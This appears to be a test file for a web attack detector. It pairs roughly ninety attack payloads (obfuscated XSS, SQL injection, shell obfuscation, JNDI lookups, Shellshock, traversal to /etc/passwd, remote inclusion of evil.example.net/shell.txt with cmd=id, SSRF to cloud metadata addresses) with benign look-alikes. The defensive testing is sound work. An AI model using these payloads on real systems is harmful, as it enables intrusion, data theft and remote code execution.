/**
 * Attack classes written from the language of each attack (docs/detection.md), each with a benign
 * look-alike that must stay quiet. Request shapes: `q` a query value, `ua` the User-Agent, `ref`
 * the Referer, `json`/`form`/`xml` a body, `path` a whole target.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { HOST, RELAXED, tx, written } from './helpers';

type Where = Parameters<typeof written>[0];

const detector = new AttackDetector(RELAXED);
function classes(where: Where, v: string): AttackClass[] {
  return detector.detect(tx(written(where, v)))?.hits.map((h) => h.class) ?? [];
}

const ATTACKS: Array<[string, AttackClass, Where, string]> = [
  // 1. JavaScript without tags: computed calls on global objects, constructor chains, JSFuck.
  ['property named by escaped string', 'xss', 'q', 'frames[%27\\x61\\x6c\\x65\\x72\\x74%27](1)'],
  ['name built from regex sources', 'xss', 'q', 'this[/al/.source%2B/ert/.source](1)'],
  [
    'name built by concatenation, in the Referer',
    'xss',
    'ref',
    'https://x.example/?a=self[%27ale%27%2B%27rt%27](document.domain)',
  ],
  ['name from atob', 'xss', 'q', 'window[atob(%27YWxlcnQ=%27)](1)'],
  ['sinks given other names', 'xss', 'q', encodeURIComponent("';a=eval;b=alert;a(b(13));//")],
  ['a namespaced VML frame', 'xss', 'q', encodeURIComponent('<v:vmlframe src="foo.example/sup.fml"/>')],
  [
    'JSFuck',
    'xss',
    'q',
    encodeURIComponent('[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+!+[]]+(!![]+[])[+[]]][([]+[])[!+[]+!+[]+!+[]]](1)'),
  ],
  // 2. Base64 inside structures.
  ['PHP-serialized base64 path', 'ptrav', 'q', encodeURIComponent('a:1:{s:16:"L2V0Yy9wYXNzd2Q=";}')],
  // 3. Bare SQL statements and time-based forms in every quoting.
  ['bare SELECT', 'sqli', 'q', 'SELECT * FROM all_tables'],
  ['CASE WHEN with pg_sleep', 'sqli', 'q', encodeURIComponent('SELECT CASE WHEN (1=1) THEN pg_sleep(10) ELSE pg_sleep(0) END')],
  ['copy to program', 'sqli', 'q', encodeURIComponent("1;copy (select '') to program 'nslookup x.example.net'")],
  ['waitfor after a closed argument list', 'sqli', 'q', encodeURIComponent("','0');waitfor delay '0:0:5'--")],
  ['typographic quotes', 'sqli', 'q', encodeURIComponent('\u2019 or \u20181\u2019=\u20191')],
  // 4. Shell obfuscation.
  ['quotes inside a command', 'rce', 'q', encodeURIComponent(";wh''oami")],
  ['$IFS as separator', 'rce', 'q', encodeURIComponent('${IFS}id')],
  ['arithmetic expansion', 'rce', 'q', encodeURIComponent('$((11+6))')],
  ['command substitution of a word-command', 'rce', 'q', encodeURIComponent('$(echo 123)')],
  ['empty expansion glued into a word', 'rce', 'q', encodeURIComponent(';c$@at /etc/hosts')],
  // 5. JNDI lookups however spelled.
  ['nested upper lookup', 'rce', 'ua', '${jnd${upper:i}:ldap://x.example.net/a}'],
  ['default-value lookups', 'rce', 'ua', '${${::-j}${::-n}di:ldap://x.example.net/a}'],
  ['env defaults', 'rce', 'ua', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example.net/a}'],
  // 6. Shellshock variants.
  ['shellshock with here-documents', 'rce', 'ua', '() { 0 <<a <<b <<c; } bash -c id'],
  ['shellshock function a', 'rce', 'ua', '() { function a a>\\'],
  // 7. Traversal encodings.
  ['six-byte overlong dot', 'ptrav', 'path', '/%fc%80%80%80%80%ae%fc%80%80%80%80%ae/etc/passwd'],
  ['%u002e', 'ptrav', 'q', '%u002e%u002e/%u002e%u002e/etc/passwd'],
  ['....//', 'ptrav', 'q', '....//....//....//etc/passwd'],
  ['..2f where a filter ate the %', 'ptrav', 'q', '..2f..2f..2fetc2fpasswd'],
  ['a system file as the whole value', 'ptrav', 'q', encodeURIComponent('/proc/partitions')],
  ['a Windows server file', 'ptrav', 'q', encodeURIComponent('c:\\xampp\\apache\\conf\\httpd.conf')],
  ['junk character between the dots', 'ptrav', 'q', '%2F..%uEFC8..%uEFC8etc%2Fpasswd'],
  ['an escape no decoder takes, after the dots', 'ptrav', 'q', '%2F..%25c0%259v..%2F..%2F'],
  ['every %2f eaten by a filter', 'ptrav', 'q', '..2fapache2flogs2faccess.log'],
  ['one level up to a hidden file', 'ptrav', 'q', '..%2F.htpasswd'],
  ['a shell history in root', 'ptrav', 'q', encodeURIComponent('/root/.bash_history')],
  ['a drive letter without its slash', 'ptrav', 'q', 'c:WINDOWS/system32/'],
  ['PHP configuration by absolute path', 'ptrav', 'form', 'f=' + encodeURIComponent('/php5\\php.ini')],
  ['kernel objects', 'ptrav', 'q', encodeURIComponent('/sys/class/net')],
  ['remote file with its suffix cut by ?', 'ptrav', 'path', '/inc/header.php?mainpath=http://evil.example.net/shell.txt?'],
  ['remote file with ?? and a command', 'ptrav', 'q', encodeURIComponent('http://evil.example.net/shell.txt??&cmd=id')],
  ['remote file in quotes, its suffix cut', 'ptrav', 'path', '/inc/config.php?root=%27http://evil.example.net/shell.txt?%27'],
  ['remote file after a doubled =', 'ptrav', 'path', '/index.php?base==http://evil.example.net/shell.txt?'],
  ['remote file glued to the parameter name', 'ptrav', 'path', '/core/news.php?absoluteurlhttp://evil.example.net/shell.txt?'],
  // 8. XXE without SYSTEM, and DOCTYPE in JSON.
  [
    'entity expansion bomb',
    'xxe',
    'xml',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
  ],
  ['DOCTYPE in a JSON string', 'xxe', 'json', '{"doc":"<!DOCTYPE d [<!ENTITY e \\"x\\">]><d>&e;</d>"}'],
  [
    'DOCTYPE in a query value',
    'xxe',
    'q',
    encodeURIComponent('<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>'),
  ],
  // SSRF: internal addresses in every notation, odd schemes.
  ['scheme without slashes', 'ssrf', 'q', 'http%3A127.0.0.1'],
  ['IPv4-mapped metadata address, long form', 'ssrf', 'q', encodeURIComponent('http://[0:0:0:0:0:ffff:a9fe:a9fe]/')],
  ['IPv4-compatible metadata address', 'ssrf', 'q', encodeURIComponent('http://[0:0:0:0:0:0:169.254.169.254]/')],
  ['decimal beyond 32 bits', 'ssrf', 'q', encodeURIComponent('http://7147006462/')],
  ['hex beyond 32 bits', 'ssrf', 'q', encodeURIComponent('http://0x41414141A9FEA9FE/')],
  ['ideographic full stops', 'ssrf', 'q', encodeURIComponent('http://169\u3002254\u3002169\u3002254/')],
  ['backslashes inside the host', 'ssrf', 'q', encodeURIComponent('http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/')],
  [
    'an internal host after a second @',
    'ssrf',
    'q',
    encodeURIComponent('http://good.example:80 &@good.example:80# @127.88.23.245:22/'),
  ],
  ['container host without a scheme', 'ssrf', 'q', encodeURIComponent('host.docker.internal/admin')],
  ['loopback in octal', 'ssrf', 'form', 'host=0177.0.0.1'],
  ['loopback in hex parts', 'ssrf', 'json', '{"host":"0x7f.0x0.0x0.0x1"}'],
  ['short loopback', 'ssrf', 'q', '127.1'],
  ['IPv6 loopback', 'ssrf', 'q', encodeURIComponent('::1')],
  ['rsync scheme', 'ssrf', 'q', encodeURIComponent('rsync://[0:0:0:0:0:ffff:169.254.169.254]/')],
  ['Oracle Cloud metadata', 'ssrf', 'q', encodeURIComponent('http://192.0.0.192/latest/')],
  // SSRF: the host as the fetcher (WHATWG URL) reads it.
  ['backslashes for slashes', 'ssrf', 'q', encodeURIComponent('http:\\\\127.0.0.1\\admin')],
  ['a slash and a backslash', 'ssrf', 'json', '{"url":"http:/\\/169.254.169.254/"}'],
  ['three slashes', 'ssrf', 'q', encodeURIComponent('http:///127.0.0.1/')],
  ['scheme-relative with three slashes', 'ssrf', 'form', 'src=' + encodeURIComponent('///localhost/')],
  ['IPv6 loopback with leading zeros', 'ssrf', 'q', encodeURIComponent('http://[0000::1]/')],
  ['IPv6 loopback compressed twice over', 'ssrf', 'q', encodeURIComponent('http://[0:0::1]:8080/')],
  ['IPv4-translated loopback', 'ssrf', 'q', encodeURIComponent('http://[::ffff:0:127.0.0.1]/')],
  ['NAT64 metadata address', 'ssrf', 'q', encodeURIComponent('http://[64:ff9b::169.254.169.254]/')],
  ['a name under .localhost', 'ssrf', 'q', encodeURIComponent('http://admin.localhost:8080/')],
  ['IPv6 outside the global unicast space', 'ssrf', 'q', encodeURIComponent('http://[dead:beef::1]/')],
  ['one decimal number after http: without slashes', 'ssrf', 'q', encodeURIComponent('http:3627734734')],
  // CRLF where it reaches a header.
  ['a line break in the path', 'crlf', 'path', '/index.php/PHP%0Ainfo.php'],
  ['a line break in a parameter name', 'crlf', 'path', '/get?parameter%0d%0a=test'],
  ['a parameter written after a break', 'crlf', 'q', 'test%0Dnext=more'],
  // LDAP filters broken out of.
  ['closed, NOT, new assertion', 'ldapi', 'form', 'foo=x)!(sn=*'],
  ['closed, AND, new assertion', 'ldapi', 'q', 'val)%26(cn%3Dadmin'],
  ['closed then an open OR at the end', 'ldapi', 'q', 'admin)(|'],
  ['a whole filter with a constant assertion', 'ldapi', 'q', encodeURIComponent('(&(uid=admin)(!(&(1=0)(userPassword=q))))')],
  // 9. Backup files, consoles, known exploits.
  ['backup of a JSP', 'scanner', 'path', '/index.jsp.Bak'],
  ['editor copy', 'scanner', 'path', '/config.php~'],
  ['ColdFusion administrator', 'scanner', 'path', '/CFIDE/administrator/'],
  ['JBoss JMX console', 'scanner', 'path', '/jmx-console/HtmlAdaptor'],
  ['a coding assistant settings file', 'scanner', 'path', '/.claude/settings.json'],
  ['a Subversion checkout', 'scanner', 'path', '/app/.svn/wc.db'],
  ['macOS folder metadata', 'scanner', 'path', '/images/.DS_Store'],
  ['an archived SQL dump', 'scanner', 'path', '/backup.sql.zip'],
  ['a debug log', 'scanner', 'path', '/wp-content/debug.log'],
  ['Go profiling', 'scanner', 'path', '/debug/pprof/goroutine?debug=1'],
  ['OGNL concatenated into a string', 'rce', 'q', '\\u0027%2B{233*233}%2B\\u0027'],
  // 10. NUL bytes.
  ['NUL in a parameter', 'ptrav', 'q', '%00'],
  ['NUL before an extension', 'ptrav', 'path', '/download/report.pdf%00.jpg'],
  // Open redirect: evidence of abuse.
  ['scheme-relative target', 'redir', 'path', '/login?next=//evil.example.net/'],
  ['@-confusion', 'redir', 'path', '/login?next=https://shop.example@evil.example.net/'],
  ['own name as prefix of another host', 'redir', 'path', '/login?next=https://shop.example.evil.net/'],
];

const BENIGN: Array<[string, Where, string]> = [
  // A price or a measure led by 127 reads as 127.0.0.N to inet_aton, but it is a decimal number first.
  ['price led by 127', 'form', 'amount=127.35'],
  ['measure led by 127 in JSON', 'json', '{"weight":127.05}'],
  [
    'partner redirect_uri in an OAuth flow',
    'path',
    '/oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fclient.example.net%2Fcb&response_type=code',
  ],
  ['CAS service URL', 'path', '/cas/login?service=https%3A%2F%2Fportal.university.example%2Fc%2Fportal%2Flogin'],
  ['returnUrl to a shop', 'path', '/account/login?returnUrl=https%3A%2F%2Fshop.partner.example%2Fcart'],
  ['CRLF in JSON text', 'json', '{"comment":"Line one\\r\\nLocation: Paris\\r\\nX-Ray: done"}'],
  [
    'GraphQL query text',
    'json',
    '{"query":"query GetUser($id: ID!) { user(id: $id) { name posts(first: 10) { edges { node { id title } } } } }","variables":{"id":"42"}}',
  ],
  ['GraphQL with a pipe in an argument', 'json', '{"query":"{ search(term: \\"cat | dog\\") { id } }"}'],
  [
    'binary-looking blob',
    'json',
    '{"avatar":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}',
  ],
  ['search naming SQL words', 'q', 'how+to+use+union+select+in+mysql'],
  ['JSON with an empty offset in a query', 'q', encodeURIComponent('{"offset":""}')],
  ['lone <script search term', 'q', '%3Cscript'],
  [
    'JavaScript source in a form field',
    'form',
    'source=' + encodeURIComponent('var d = new Date(); while (x) {} return this.items.filter(i => i.ok)'),
  ],
  ['JavaScript computed call on a local object', 'form', 'js=' + encodeURIComponent('handlers[name](e); this[key](value);')],
  ['path segment naming a file id', 'path', '/attachments/file:38b50ca6/download'],
  ['PHP-serialized word', 'q', encodeURIComponent('a:1:{s:3:"foo";}')],
  ['JWT', 'json', '{"token":"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"}'],
  ['dollar in prose', 'q', encodeURIComponent('cost $(USD) per month')],
  ['a page about backups', 'path', '/docs/backup-and-restore.html'],
  ['a user document path', 'q', encodeURIComponent('/home/alice/notes.txt')],
  ['a relative link under /php', 'path', '/login?next=%2Fphp%2Fmanual'],
  ['an old report', 'path', '/files/report.old.pdf'],
  ['a manager dashboard', 'path', '/manager/dashboard'],
  ['RFC 8615 well-known URI', 'path', '/.well-known/openid-configuration'],
  ['a Netlify function', 'path', '/.netlify/functions/subscribe'],
  ['a link ending in an empty query', 'path', '/login?next=https%3A%2F%2Fshop.partner.example%2Fcart%3F'],
  ['a login url parameter', 'path', '/login?url=https%3A%2F%2Fportal.partner.example%2Fhome'],
  ['next on a login page', 'path', '/sso/login?next=https%3A%2F%2Fapp.partner.example%2Fdashboard'],
  ['a version number', 'q', '10.1'],
  ['a price', 'q', '0.05'],
  ['a private address in a settings form', 'form', 'gateway=192.168.1.1&dns=10.0.0.53'],
  ['a public IPv6 address in a URL', 'q', encodeURIComponent('http://[2001:db8::1]/status')],
  ['a product number then a slug', 'q', encodeURIComponent('55012873/blue-glass-beads')],
  ['a link to a page with a query', 'path', '/go?url=' + encodeURIComponent('https://shop.example/index.php?id=5')],
  ['a link to a routed page', 'path', '/go?url=' + encodeURIComponent('https://shop.example/index.php?/admin/login')],
  ['a Windows path with backslashes', 'form', 'dir=' + encodeURIComponent('\\\\fileserver\\reports\\2024')],
  ['a URL with a full-width host', 'q', encodeURIComponent('https://\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.com/')],
  ['a date with slashes', 'json', '{"due":"15/01/2024"}'],
  ['an id and a base64 tail', 'q', encodeURIComponent('2/1JzYh6glEEVrNB6zlia7d4pcI=')],
  [
    'a directory search filter',
    'form',
    'filter=' + encodeURIComponent('(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))'),
  ],
  ['a multi-line message in a query', 'q', encodeURIComponent('Hello,\r\nSubject: our meeting\r\nThanks')],
  ['a user document path', 'form', 'file=' + encodeURIComponent('/home/alice/reports/2024.pdf')],
  ['a relative image path with one level up', 'q', encodeURIComponent('../images/logo.png')],
  ['sleep in a sentence', 'q', encodeURIComponent("I'll sleep(8 hours) tonight")],
  [
    'a function in a form field',
    'form',
    'code=' +
      encodeURIComponent(
        'function debounce(fn, ms) { let t; return function () { clearTimeout(t); t = setTimeout(() => fn.apply(this, arguments), ms); }; }',
      ),
  ],
];

for (const [name, cls, where, v] of ATTACKS) {
  test(`${cls}: ${name}`, () =>
    assert.ok(classes(where, v).includes(cls), `${where} ${v} gave ${classes(where, v).join(',') || 'nothing'}`));
}

for (const [name, where, v] of BENIGN) {
  test(`benign: ${name}`, () => assert.deepEqual(classes(where, v), [], `${where} ${v}`));
}

test('ptrav: one level up in an uploaded file name', () => {
  const body =
    '--b\r\nContent-Disposition: form-data; name="file"; filename="..\\1.7z"\r\nContent-Type: application/octet-stream\r\n\r\nxx\r\n--b--\r\n';
  const r = detector.detect(
    tx({ method: 'POST', target: '/upload', headers: [HOST, ['Content-Type', 'multipart/form-data; boundary=b']], body }),
  );
  assert.deepEqual(
    r?.hits.map((h) => [h.class, h.point.join('.')]),
    [['ptrav', 'multipart.file.filename']],
  );
});

test('a request to an exploited endpoint with ordinary values is no known exploit', () => {
  const r = detector.detect(tx({ target: '/wp-content/plugins/sourceafrica/js/window.php?wpbase=x' }));
  assert.equal(r?.hits.some((h) => h.rule !== undefined) ?? false, false, JSON.stringify(r?.hits));
});

test('a known exploit request names its CVE', () => {
  // The exploit's parameter carries a payload: a signature made only of parameter names counts
  // when one of them holds more than an ordinary value (exploits.ts carriesPayload).
  const r = detector.detect(
    tx({ target: '/wp-content/plugins/sourceafrica/js/window.php?wpbase=%22%3E%3Cscript%3Ealert(1)%3C/script%3E' }),
  );
  const hit = r?.hits.find((h) => h.class === 'scanner' && h.rule !== undefined);
  assert.ok(hit, JSON.stringify(r?.hits));
  assert.match(hit.rule!, /^CVE-\d{4}-\d+$/);
});
